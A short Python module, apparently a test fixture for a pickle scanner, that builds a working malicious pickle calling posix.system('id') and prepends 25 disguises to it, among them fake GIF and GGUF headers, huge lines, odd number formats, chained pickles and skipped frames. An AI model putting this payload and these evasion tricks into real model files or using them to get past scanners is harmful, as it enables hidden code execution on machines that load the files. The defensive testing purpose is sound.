"""Beginnings that make a pickle look like something else, and leave it one."""

from __future__ import annotations

import struct

ATTACK = b"cposix\nsystem\n(S'id'\ntR."

_BEGINNINGS = {
    "as it is": b"",
    "a GIF": b"GIF87axyz0",
    "another GIF": b"GIF89a\x10\x10\x100",
    "GGUF": b"GGUF\x03\0\0\0\x000",
    "a long line": b"V" + b"x" * (3 << 20) + b"\n0",
    "a long text": b"S'" + b"x" * (3 << 20) + b"'\n0",
    "hexadecimal": b"I0x10\n0",
    "underscores": b"I1_0\n0",
    "a space": b"I 7\n0",
    "a plus": b"L+7L\n0",
    "a float": b"FINFINITY\n0",
    "a mark that is popped": b"(0",
    "marks that are popped": b"(" * 50 + b"0" * 50,
    "a padded index": b"Np" + b"0" * 100 + b"7\n0",
    "an index with a sign": b"Np+7\n0g7\n0",
    "an index with underscores": b"Np1_0\n0g10\n0",
    "another pickle before it": b"N.",
    "many pickles before it": b"I1\n.K\x02.N.",
    "an old PyTorch file": b"L119547037146038801333356L\n.I1001\n.}.",
    "a protocol of old": b"\x80\x00",
    "thousands of opcodes": b"N0" * 5000,
    "a skipped block": b"\x80\x04\x8e" + struct.pack("<Q", 5000) + b"some prose, in words.\n" * 227 + b"words." + b"0",
    "text": b"Vfor those who read: this is a harmless text\n0",
    "a table": b"Vname,age,city\n0",
    "JSON": b'}0V{"a": 1}\n0',
}


def disguised() -> dict[str, bytes]:
    """The same attack behind every beginning, by what it looks like."""
    return {name: beginning + ATTACK for name, beginning in _BEGINNINGS.items()}
